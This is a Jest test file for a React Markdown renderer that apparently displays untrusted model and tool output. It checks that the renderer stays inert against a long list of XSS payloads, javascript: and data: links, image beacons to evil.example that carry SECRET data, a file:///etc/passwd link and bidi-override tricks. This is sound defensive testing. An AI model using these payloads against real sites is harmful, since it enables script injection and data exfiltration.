/**
 * Untrusted text on screen: hostile markdown from a model, a tool or a log renders no HTML,
 * loads nothing, and links only to http, https and mailto; what people write still reads well.
 */
/// <reference types="node" />
import * as fs from 'fs';
import * as path from 'path';
import * as React from 'react';
import { act } from 'react';

import { PreviewView } from '../src/components/Preview';
import {
  ChartImage,
  inThemeColour,
  Markdown,
  MAX_MARKDOWN_CHARS,
  safeLinkUrl,
  visibleText
} from '../src/safe';
import { render } from './render';

/** The hostile-input corpus the Python tests share (`tests/data/hostile/corpus.json`). */
function sharedCorpus(): string[] {
  const file = path.join(__dirname, '..', '..', 'tests', 'data', 'hostile', 'corpus.json');
  const corpus = JSON.parse(fs.readFileSync(file, 'utf-8')) as Record<string, unknown>;
  return Object.entries(corpus)
    .filter(([name]) => !name.startsWith('_'))
    .flatMap(([, items]) => items as (string | { repeat: string; times: number })[])
    .map(item => (typeof item === 'string' ? item : item.repeat.repeat(item.times)));
}

declare global {
  interface Window {
    __pwned?: unknown;
  }
}

/** Elements that run code, load something or change the page when rendered. */
const DANGEROUS_TAGS =
  'script, img, svg, math, iframe, frame, object, embed, style, link, meta, base, form, input, button, ' +
  'video, audio, source, picture, track, template, textarea, select, canvas';

/** Each sets `window.__pwned` or loads from evil.example if it is ever rendered as HTML. */
const HOSTILE: string[] = [
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=1"><circle r=1 /></svg>',
  '<script>window.__pwned = 1</script>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<a href="javascript:window.__pwned=1">click me</a>',
  '<details open ontoggle="window.__pwned=1">x</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  '<style>body { background: url(https://evil.example/css) }</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<!-- <img src=x onerror=window.__pwned=1> -->',
  '[click](javascript:window.__pwned=1)',
  '[click](JaVaScRiPt:window.__pwned=1)',
  '[click](<javascript:window.__pwned=1>)',
  '[click](&#106;avascript:window.__pwned=1)',
  '[click](&#x6A;avascript&colon;window.__pwned=1)',
  '[click](\\javascript:window.__pwned=1)',
  '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)',
  '[click](vbscript:msgbox(1))',
  '[click](file:///etc/passwd)',
  '[click][r]\n\n[r]: javascript:window.__pwned=1',
  '<javascript:window.__pwned=1>',
  '![x](https://evil.example/?d=SECRET)',
  '![x][r]\n\n[r]: https://evil.example/p?d=SECRET',
  '![x][]\n\n[x]: https://evil.example/collapsed',
  '![x]\n\n[x]: https://evil.example/shortcut',
  '![x](//evil.example/protocol-relative)',
  '![x](data:image/svg+xml,<svg onload=window.__pwned=1>)',
  '[![x](https://evil.example/inside-a-link.png)](https://ok.example/)',
  '**<img src=x onerror=window.__pwned=1>**',
  '# <img src=x onerror=window.__pwned=1>',
  '> <script>window.__pwned=1</script>',
  '- <svg onload=window.__pwned=1>',
  '| a |\n|---|\n| <img src=x onerror=window.__pwned=1> |',
  '```\n</code></pre><img src=x onerror=window.__pwned=1>\n```',
  '`` `<img src=x onerror=window.__pwned=1>` ``',
  '&lt;img src=x onerror=window.__pwned=1&gt;',
  '&#60;script&#62;window.__pwned=1&#60;/script&#62;',
  '\\<img src=x onerror=window.__pwned=1>',
  '<<img src=x onerror=window.__pwned=1>>',
  '*'.repeat(3000) + '<img src=x onerror=window.__pwned=1>' + '_'.repeat(3000),
  '>'.repeat(5000) + ' <img src=x onerror=window.__pwned=1>',
  '['.repeat(5000) + '![x](https://evil.example/deep)'
];

function shown(text: string): HTMLElement {
  const { container } = render(<Markdown text={text} />);
  return container;
}

function assertInert(container: HTMLElement): void {
  expect(Array.from(container.querySelectorAll(DANGEROUS_TAGS)).map(e => e.tagName)).toEqual([]);
  for (const element of Array.from(container.querySelectorAll('*'))) {
    for (const { name, value } of Array.from(element.attributes)) {
      expect(name).not.toMatch(/^(on|src|srcset|srcdoc|action|formaction|background|poster|xlink)/i);
      if (name === 'style') {
        expect(value).toMatch(/^text-align: (left|center|right);$/);
      }
      if (name === 'href') {
        expect(element.tagName).toBe('A');
        expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      }
    }
  }
  for (const link of Array.from(container.querySelectorAll('a'))) {
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link.querySelector('a')).toBeNull();
  }
}

describe('Markdown with hostile input', () => {
  afterEach(() => {
    expect(window.__pwned).toBeUndefined();
  });

  it.each(HOSTILE.map(text => [text.slice(0, 60), text]))(
    'renders %j with no HTML, no loads and only safe links',
    (_, text) => {
      assertInert(shown(text));
    }
  );

  it.each(sharedCorpus().map(text => [text.slice(0, 60), text]))(
    'renders the shared corpus entry %j inertly',
    (_, text) => {
      assertInert(shown(text));
    }
  );

  it('shows raw HTML as the characters that were written', () => {
    const container = shown('<img src=x onerror="window.__pwned=1"> and <b>bold</b>');
    expect(container.textContent).toBe('<img src=x onerror="window.__pwned=1"> and <b>bold</b>');
    expect(container.querySelector('b')).toBeNull();
  });

  it('shows a remote image as a link that shows its URL, never loading it', () => {
    const container = shown('Look: ![secret chart](https://evil.example/?d=SECRET)');
    const image = container.querySelector('[data-testid="betty-markdown-image"]')!;
    expect(image.textContent).toBe('[image: secret chart] https://evil.example/?d=SECRET');
    const link = image.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://evil.example/?d=SECRET');
    expect(link.textContent).toBe('https://evil.example/?d=SECRET');
  });

  it('shows a reference-style image as a link too', () => {
    const container = shown('![x][r]\n\n[r]: https://evil.example/p "a title"');
    expect(container.textContent).toBe('[image: x] https://evil.example/p');
    expect(container.querySelector('a')!.getAttribute('href')).toBe('https://evil.example/p');
  });

  it('shows an image whose URL may not be followed as text only', () => {
    const container = shown('![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)');
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toBe('[image: x] data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+');
  });

  it('keeps a link that is not http, https or mailto as text that shows where it pointed', () => {
    const container = shown('[open the report](&#106;avascript:window.__pwned=1)');
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toBe('open the report (javascript:window.__pwned=1)');
  });

  it('decodes entities to text, never to markup', () => {
    const container = shown('&lt;script&gt;x&lt;/script&gt; &amp;amp; &#60;b&#62; &copy; &bogus;');
    expect(container.textContent).toBe('<script>x</script> &amp; <b> © &bogus;');
    expect(container.querySelector('script, b')).toBeNull();
  });

  it('keeps nested backticks inside a code span', () => {
    const container = shown('run `` `rm -rf <img src=x onerror=1>` `` now');
    expect(container.querySelector('code')!.textContent).toBe('`rm -rf <img src=x onerror=1>`');
  });

  it('keeps a fence inside a longer fence', () => {
    const container = shown('````md\n```\n<script>window.__pwned=1</script>\n```\n````');
    expect(container.querySelector('pre')!.textContent).toBe(
      '```\n<script>window.__pwned=1</script>\n```'
    );
  });

  it('shows very long text as plain text', () => {
    const text = '**x** '.repeat(MAX_MARKDOWN_CHARS / 6 + 1);
    const container = shown(text);
    expect(container.querySelector('strong')).toBeNull();
    expect(container.textContent).toBe(text);
  });
});

describe('safeLinkUrl', () => {
  it.each([
    ['https://example.org/a?b=c', 'https://example.org/a?b=c'],
    ['http://example.org', 'http://example.org/'],
    ['mailto:hpc-help@example.org', 'mailto:hpc-help@example.org'],
    ['  https://example.org/x', 'https://example.org/x']
  ])('lets %j open as %j', (url, href) => {
    expect(safeLinkUrl(url)).toBe(href);
  });

  it.each([
    'javascript:alert(1)',
    ' JAVASCRIPT:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0000javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://example.org/uuid',
    '//evil.example/x',
    '/files/secret.txt',
    'wiki/index.md',
    ''
  ])('refuses %j', url => {
    expect(safeLinkUrl(url)).toBeNull();
  });
});

describe('Markdown as people write it', () => {
  it('keeps identifiers with underscores as they are', () => {
    const container = shown('State OUT_OF_MEMORY for job my_train_run, and _this_ is emphasis.');
    expect(container.textContent).toBe('State OUT_OF_MEMORY for job my_train_run, and this is emphasis.');
    expect(Array.from(container.querySelectorAll('em')).map(e => e.textContent)).toEqual(['this']);
  });

  it('renders headings, emphasis, lists, quotes and rules', () => {
    const container = shown(
      '## Plan\n\n**Bold**, *italic*, ~~gone~~ and `code`.\n\n' +
        '3. three\n4. four\n   - nested\n\n> quoted\n\n---\n\nSetext\n==='
    );
    expect(container.querySelector('h2')!.textContent).toBe('Plan');
    expect(container.querySelector('strong')!.textContent).toBe('Bold');
    expect(container.querySelector('em')!.textContent).toBe('italic');
    expect(container.querySelector('del')!.textContent).toBe('gone');
    const list = container.querySelector('ol')!;
    expect(list.getAttribute('start')).toBe('3');
    expect(list.querySelectorAll(':scope > li')).toHaveLength(2);
    expect(list.querySelector('li ul li')!.textContent).toBe('nested');
    expect(list.querySelector('p')).toBeNull();
    expect(container.querySelector('blockquote')!.textContent).toBe('quoted');
    expect(container.querySelector('hr')).not.toBeNull();
    expect(container.querySelector('h1')!.textContent).toBe('Setext');
  });

  it('renders a loose list with paragraphs', () => {
    const container = shown('- one\n\n- two');
    expect(container.querySelectorAll('li > p')).toHaveLength(2);
  });

  it('renders a table with its alignment', () => {
    const container = shown('| job | state |\n|:---|---:|\n| 12 | `RUNNING` |\n| 13 | PENDING |');
    const cells = Array.from(container.querySelectorAll('td')).map(cell => cell.textContent);
    expect(cells).toEqual(['12', 'RUNNING', '13', 'PENDING']);
    expect(container.querySelector('th')!.getAttribute('style')).toBe('text-align: left;');
    expect(container.querySelectorAll('td')[1].getAttribute('style')).toBe('text-align: right;');
  });

  it('renders code blocks, shell scripts highlighted', () => {
    const container = shown('```bash\n#SBATCH --mem=4G\necho $HOME\n```');
    const pre = container.querySelector('pre')!;
    expect(pre.dataset.language).toBe('bash');
    expect(pre.textContent).toBe('#SBATCH --mem=4G\necho $HOME');
    expect(pre.querySelector('.betty-hl-directive')!.textContent).toBe('#SBATCH');
  });

  it('links http, https and mailto URLs, bare or bracketed', () => {
    const container = shown(
      'See [the docs](https://slurm.schedmd.com/sbatch.html), <mailto:help@example.org>, ' +
        'https://example.org/a_(b). and www.example.org'
    );
    expect(Array.from(container.querySelectorAll('a')).map(a => a.getAttribute('href'))).toEqual([
      'https://slurm.schedmd.com/sbatch.html',
      'mailto:help@example.org',
      'https://example.org/a_(b)',
      'http://www.example.org/'
    ]);
  });

  it('keeps line breaks people mean', () => {
    const container = shown('first  \nsecond\nthird');
    expect(container.querySelectorAll('br')).toHaveLength(1);
    expect(container.textContent).toBe('firstsecond\nthird');
  });
});

describe('visibleText', () => {
  it('writes out controls and direction overrides, keeping newlines and tabs', () => {
    expect(visibleText('train\u202egpj.exe')).toBe('train\\u202egpj.exe');
    expect(visibleText('\u001b[31mred\u001b[0m\ttab\nline')).toBe('\\x1b[31mred\\x1b[0m\ttab\nline');
    expect(visibleText('\u2066isolate\u2069 caf\u00e9 \u4e2d')).toBe('\\u2066isolate\\u2069 caf\u00e9 \u4e2d');
  });

  it('shows a script on an approval card with its hidden characters written out', () => {
    const script = '#!/bin/bash\n#SBATCH --job-name=<img src=x onerror=window.__pwned=1>\necho ok \u202e# evil';
    const { container } = render(
      <PreviewView preview={{ kind: 'script', title: 'Submit', text: script, details: {} }} />
    );
    expect(container.textContent).toContain('#SBATCH --job-name=<img src=x onerror=window.__pwned=1>');
    expect(container.textContent).toContain('echo ok \\u202e# evil');
    expect(container.textContent).not.toContain('\u202e');
    assertInert(container);
  });

  it('shows control characters in markdown written out', () => {
    const container = shown('job `a\u202eb` ran \u001b[2K');
    expect(container.textContent).toBe('job a\\u202eb ran \\x1b[2K');
  });
});

describe('Markdown while a reply streams', () => {
  afterEach(() => jest.useRealTimers());

  it('formats the growing text at most every 150 ms, and the whole text once complete', () => {
    jest.useFakeTimers();
    const { container, rerender } = render(<Markdown text="one" streaming />);
    rerender(<Markdown text="one **two**" streaming />);
    rerender(<Markdown text="one **two** three" streaming />);
    expect(container.textContent).toBe('one');
    act(() => {
      jest.advanceTimersByTime(150);
    });
    expect(container.textContent).toBe('one two three');
    rerender(<Markdown text="one **two** three <img src=x onerror=window.__pwned=1>" streaming={false} />);
    expect(container.textContent).toBe('one two three <img src=x onerror=window.__pwned=1>');
    expect(container.querySelector('strong')!.textContent).toBe('two');
  });
});

describe("a chart in the theme's colours", () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" fill="currentColor"><text>GiB</text></svg>';

  it("draws the chart's text and frame in the theme's text colour", () => {
    expect(inThemeColour(svg, 'rgba(255, 255, 255, 0.87)')).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" fill="currentColor">' +
        '<style>svg{color:rgba(255, 255, 255, 0.87) !important}</style><text>GiB</text></svg>'
    );
    expect(inThemeColour(svg, null)).toBe(svg);
  });

  it("writes the page's theme colour into the image", () => {
    document.documentElement.style.setProperty('--jp-content-font-color1', '#e0e0e0');
    try {
      const { container } = render(<ChartImage svg={svg} alt="a chart" testId="chart" />);
      const src = decodeURIComponent(container.querySelector('img')!.getAttribute('src')!);
      expect(src).toContain('<style>svg{color:#e0e0e0 !important}</style>');
    } finally {
      document.documentElement.style.removeProperty('--jp-content-font-color1');
    }
  });

  it('follows a change of theme made after it was drawn', async () => {
    document.documentElement.style.setProperty('--jp-content-font-color1', '#111111');
    try {
      const { container } = render(<ChartImage svg={svg} alt="a chart" testId="chart" />);
      const src = () => decodeURIComponent(container.querySelector('img')!.getAttribute('src')!);
      expect(src()).toContain('svg{color:#111111 !important}');
      document.documentElement.style.setProperty('--jp-content-font-color1', '#e0e0e0');
      await act(async () => {
        document.body.dataset.jpThemeLight = 'false';
        await new Promise(resolve => setTimeout(resolve, 0)); // the observer's callback
      });
      expect(src()).toContain('svg{color:#e0e0e0 !important}');
    } finally {
      document.documentElement.style.removeProperty('--jp-content-font-color1');
      await act(async () => {
        delete document.body.dataset.jpThemeLight;
        await new Promise(resolve => setTimeout(resolve, 0)); // the observer's callback, inside act
      });
    }
  });

  it('writes no colour that is not a plain colour value', () => {
    document.documentElement.style.setProperty('--jp-content-font-color1', 'red}</style><script>');
    try {
      const { container } = render(<ChartImage svg={svg} alt="a chart" testId="chart" />);
      const src = decodeURIComponent(container.querySelector('img')!.getAttribute('src')!);
      expect(src).toBe(`data:image/svg+xml;charset=utf-8,${svg}`);
    } finally {
      document.documentElement.style.removeProperty('--jp-content-font-color1');
    }
  });
});
